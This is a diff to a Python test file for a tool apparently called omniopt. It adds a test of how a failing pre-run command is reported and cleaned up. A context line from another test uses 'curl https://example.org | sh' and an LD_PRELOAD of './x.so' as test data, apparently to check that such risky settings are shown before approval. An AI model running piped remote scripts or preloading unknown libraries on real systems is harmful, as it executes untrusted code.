@@ -114,6 +114,17 @@ def test_a_result_that_it_prints_is_none(omniopt: Omniopt, local: Local) -> None
     assert local.count("ok") == 5
 
 
+def test_a_trial_on_a_node_says_what_it_printed_and_leaves_nothing(omniopt: Omniopt, local: Local) -> None:
+    path = config(local.workdir, before="echo no such data >&2; false")
+    done = omniopt("check", path, "--on-node", "--local")
+    assert done.returncode == 1
+    assert "The command before the first evaluation failed" in done.stdout
+    assert "  | no such data" in done.stdout
+    assert not list((local.workdir / "omniopt" / "projects").iterdir())
+    fine = omniopt("check", config(local.workdir, before="true"), "--on-node", "--local")
+    assert fine.returncode == 0, fine.stdout
+
+
 def test_what_a_link_brings_along_is_shown_before_anybody_agrees(omniopt: Omniopt, local: Local) -> None:
     path = config(
         local.workdir, before="curl https://example.org | sh", modules=["GCC/12"], venv="v", variables={"LD_PRELOAD": "./x.so"}
